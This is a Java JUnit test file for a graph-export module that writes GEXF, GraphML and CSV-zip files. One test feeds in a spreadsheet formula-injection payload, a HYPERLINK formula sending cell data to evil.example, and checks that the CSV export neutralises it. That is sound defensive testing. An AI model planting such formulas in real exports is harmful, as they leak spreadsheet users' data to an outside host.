package fr.metrograph.copresence;

import java.io.ByteArrayInputStream;
import java.util.List;

import javax.xml.parsers.DocumentBuilderFactory;

import org.junit.jupiter.api.Test;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

import fr.metrograph.copresence.CopresenceViews.EdgeView;
import fr.metrograph.copresence.CopresenceViews.ExportEdge;
import fr.metrograph.copresence.CopresenceViews.ExportModel;
import fr.metrograph.copresence.CopresenceViews.ExportNode;
import fr.metrograph.copresence.CopresenceViews.NodeView;

import static org.assertj.core.api.Assertions.assertThat;

class NetworkExportsTests {

	private final ExportModel model = new ExportModel("metropolises",
			List.of(new ExportNode(new NodeView("aix", "Aix & « Marseille » <Provence>", 1, 2.0, 0.0, 1.0, 0),
					List.of(2024, 2025), List.of("d1", "d2")),
					new ExportNode(new NodeView("lille", "Lille", 1, 2.0, 0.0, 1.0, 0), List.of(2024), List.of("d1")),
					new ExportNode(new NodeView("brest", "Brest", 0, 0.0, 0.0, 0.0, 1), List.of(), List.of())),
			List.of(new ExportEdge(new EdgeView("aix", "lille", 2.0), List.of(2024), List.of("d1"))));

	@Test
	void writesWellFormedGexf13WithEscapedNamesAndOneSpellPerYear() throws Exception {
		Document gexf = parse(NetworkExports.gexf(this.model));
		assertThat(gexf.getDocumentElement().getNamespaceURI()).isEqualTo("http://gexf.net/1.3");
		Element aix = (Element) gexf.getElementsByTagNameNS("http://gexf.net/1.3", "node").item(0);
		assertThat(aix.getAttribute("label")).isEqualTo("Aix & « Marseille » <Provence>");
		assertThat(aix.getElementsByTagNameNS("http://gexf.net/1.3", "spell").getLength()).isEqualTo(2);
		Element brest = (Element) gexf.getElementsByTagNameNS("http://gexf.net/1.3", "node").item(2);
		assertThat(brest.getElementsByTagNameNS("http://gexf.net/1.3", "spells").getLength()).isZero();
		Element edge = (Element) gexf.getElementsByTagNameNS("http://gexf.net/1.3", "edge").item(0);
		assertThat(edge.getAttribute("weight")).isEqualTo("2.0");
	}

	@Test
	void writesWellFormedGraphml() throws Exception {
		Document graphml = parse(NetworkExports.graphml(this.model));
		assertThat(graphml.getDocumentElement().getNamespaceURI()).isEqualTo("http://graphml.graphdrawing.org/xmlns");
		assertThat(graphml.getElementsByTagNameNS("http://graphml.graphdrawing.org/xmlns", "node").getLength())
			.isEqualTo(3);
		assertThat(new String(NetworkExports.graphml(this.model), java.nio.charset.StandardCharsets.UTF_8))
			.contains("<data key=\"sources\">d1;d2</data>");
	}

	@Test
	void neutralisesFormulaLeadingNamesInTheCsvZip() throws Exception {
		ExportModel hostile = new ExportModel("people",
				List.of(new ExportNode(new NodeView("=cmd", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")", 1,
						1.0, 0.0, 1.0, 0), List.of(2024), List.of("@doc")),
						new ExportNode(new NodeView("b", "+33 Bob", 1, 1.0, 0.0, 1.0, 0), List.of(2024), List.of("d"))),
				List.of(new ExportEdge(new EdgeView("=cmd", "b", 1.0), List.of(2024), List.of("-d"))));
		java.util.Map<String, String> files = new java.util.HashMap<>();
		try (java.util.zip.ZipInputStream zip = new java.util.zip.ZipInputStream(
				new ByteArrayInputStream(NetworkExports.csvZip(hostile)))) {
			for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
				files.put(entry.getName(), new String(zip.readAllBytes(), java.nio.charset.StandardCharsets.UTF_8));
			}
		}
		assertThat(files.get("nodes.csv").lines().toList()).element(1)
			.isEqualTo(
					"'=cmd,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Cliquez\"\")\",1,1.0,0.0,1.0,0,2024,'@doc");
		assertThat(files.get("nodes.csv").lines().toList()).element(2).asString().startsWith("b,'+33 Bob,");
		assertThat(files.get("edges.csv").lines().toList()).element(1).isEqualTo("'=cmd,b,1.0,2024,'-d");
	}

	@Test
	void theCsvZipForAFrenchSpreadsheetHasSemicolonsDecimalCommasAndAByteOrderMark() throws Exception {
		java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
		NetworkExports.csvZip(this.model, bytes, fr.metrograph.csv.CsvDialect.TABLEUR);
		java.util.Map<String, String> files = new java.util.HashMap<>();
		try (java.util.zip.ZipInputStream zip = new java.util.zip.ZipInputStream(
				new ByteArrayInputStream(bytes.toByteArray()))) {
			for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
				files.put(entry.getName(), new String(zip.readAllBytes(), java.nio.charset.StandardCharsets.UTF_8));
			}
		}
		assertThat(files.get("nodes.csv"))
			.startsWith("\uFEFFid;name;degree;weightedDegree;betweenness;eigenvector;community;years;sources\r\n");
		assertThat(files.get("nodes.csv").lines().toList()).element(2).isEqualTo("lille;Lille;1;2,0;0,0;1,0;0;2024;d1");
		assertThat(files.get("edges.csv")).startsWith("\uFEFFsource;target;weight;years;sources\r\n")
			.contains("aix;lille;2,0;2024;d1");
	}

	private static Document parse(byte[] xml) throws Exception {
		DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
		factory.setNamespaceAware(true);
		return factory.newDocumentBuilder().parse(new ByteArrayInputStream(xml));
	}

}
